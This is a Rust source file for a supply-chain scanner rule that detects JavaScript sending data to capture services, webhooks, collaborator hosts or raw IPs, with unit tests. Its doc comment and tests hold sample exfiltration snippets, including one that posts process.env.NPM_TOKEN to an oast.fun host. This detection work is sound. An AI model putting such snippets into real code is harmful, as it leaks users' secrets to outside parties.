//! ## What it does
//! Fires when code sends a request (or a DNS lookup, socket write, `curl` command) to a
//! service built to capture data: webhook.site, Discord and Telegram bot webhooks, pastebins,
//! requestbin/pipedream, interactsh/OAST and Burp collaborator hosts, dnslog, ngrok and
//! Cloudflare quick tunnels — or to a raw public IPv4 address. The URL must actually reach the
//! request (a URL in a README string or a comment does not count). Critical when the request
//! carries environment variables, host identity or credential contents, or runs at install
//! time; high otherwise.
//!
//! ## Why is this bad?
//! Legitimate libraries talk to their own APIs by name. Webhook catchers, collaborator hosts
//! and bare IPs are where stolen data goes.
//!
//! ## Example
//! ```js
//! fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body }); // exfil-endpoint
//! const docs = 'see https://webhook.site for testing';                        // not requested
//! ```
//!
//! ## Motivated by
//! Most typosquats and stealers: an0n-chat-lib and discord-fix (Discord webhooks), the
//! dependency-confusion probes (oast.fun, oastify.com, burpcollaborator.net).

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter, SendKind};
use crate::js::taint::Taint;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for send in ctx.sends() {
        let carries_data = send.payload.has(Taint::ENV_ANY)
            || send.payload.identity_kinds() > 0
            || send.payload.has(Taint::CRED_DATA);
        if send.to_exfil_endpoint() {
            let severity = if carries_data || ctx.install_time {
                AlertSeverity::Critical
            } else {
                AlertSeverity::High
            };
            out.report(
                AlertId::ExfilEndpoint,
                severity,
                send.span,
                format!(
                    "`{}` sends to a data-capture service or raw IP",
                    send.callee
                ),
                send.url_texts(),
            );
        } else if send.kind == SendKind::Dns && carries_data {
            // DNS tunnelling: the data is in the host name being resolved.
            let severity = if ctx.install_time {
                AlertSeverity::Critical
            } else {
                AlertSeverity::High
            };
            out.report(
                AlertId::ExfilEndpoint,
                severity,
                send.span,
                format!("`{}` puts host data into a DNS name", send.callee),
                send.url_texts(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn requests_to_capture_services_fire() {
        fires(
            "fetch('https://webhook.site/0c1d', { method: 'POST', body: 'x' });",
            false,
            AlertId::ExfilEndpoint,
            AlertSeverity::High,
        );
        fires(
            "const https = require('https');\nvar options = { hostname: 'abc123.oast.fun', path: '/', method: 'POST' };\nvar req = https.request(options, r => {});\nreq.write(JSON.stringify({ t: process.env.NPM_TOKEN }));",
            false,
            AlertId::ExfilEndpoint,
            AlertSeverity::Critical,
        );
        fires(
            "require('http').get('http://45.9.148.3:8080/p');",
            false,
            AlertId::ExfilEndpoint,
            AlertSeverity::High,
        );
    }

    #[test]
    fn urls_that_are_never_requested_do_not() {
        silent(
            "const help = 'post your test payloads to https://webhook.site';\nconsole.log(help);",
            false,
            AlertId::ExfilEndpoint,
        );
        silent(
            "// https://discord.com/api/webhooks/1/abc\nfetch('https://api.example/v1');",
            false,
            AlertId::ExfilEndpoint,
        );
        silent(
            "require('http').get('http://127.0.0.1:8080/health');",
            false,
            AlertId::ExfilEndpoint,
        );
    }
}
